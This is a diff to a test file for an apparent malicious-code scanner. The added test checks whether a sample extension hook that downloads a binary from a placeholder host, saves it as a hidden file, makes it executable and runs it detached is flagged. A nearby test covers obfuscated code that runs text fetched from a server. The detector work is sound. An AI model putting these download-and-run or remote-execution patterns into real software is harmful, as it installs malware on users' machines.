@@ -592,6 +592,13 @@ test('good: a script of the package is started with the name of a file that anot
   for (const start of ['cp.spawnSync(process.execPath, [file])', 'cp.spawnSync(process.execPath, ["-r", file, "bin/run.js"])', 'cp.spawnSync(process.execPath, [file, "bin/run.js"])', 'cp.spawn("node", ["bin/other.js", file])', 'cp.spawn("sh", ["bin/run.js", file])', 'cp.spawn(file, ["bin/run.js"])']) assert.equal(verdict(start), 'high', start);
 });
 
+test('a program that is downloaded and left running at any time; good: one that is heard of', () => {
+  const theme = (options: string): string => `const { createWriteStream, chmodSync } = require('fs'); const { spawn } = require('child_process'); const file = require('path').join(require('os').homedir(), '.icons'); exports.activate = () => require('https').get('https://icons.side.example/' + process.arch, (res) => res.pipe(createWriteStream(file)).on('close', () => { chmodSync(file, 0o755); const child = spawn(file, [], ${options}); }));`;
+  assert.equal(worst(theme("{ detached: true, stdio: 'ignore' }); child.unref(")), 'high');
+  assert.equal(worst(theme("{ stdio: 'inherit' }")), 'nothing');
+  assert.equal(worst(theme("{ detached: true, stdio: 'pipe' }); child.unref(")), 'nothing');
+});
+
 test('a function of the global object whose name is decoded gets what a server answered', () => {
   assert.equal(worst('const dec = (a) => a.map((n) => String.fromCharCode(n ^ 7)).join(""); const run = globalThis[dec(codes)]; fetch(u).then((r) => r.text()).then((t) => run(t))'), 'high');
   assert.equal(worst('fetch(u).then((r) => r.json()).then((data) => window[name](data))'), 'nothing');
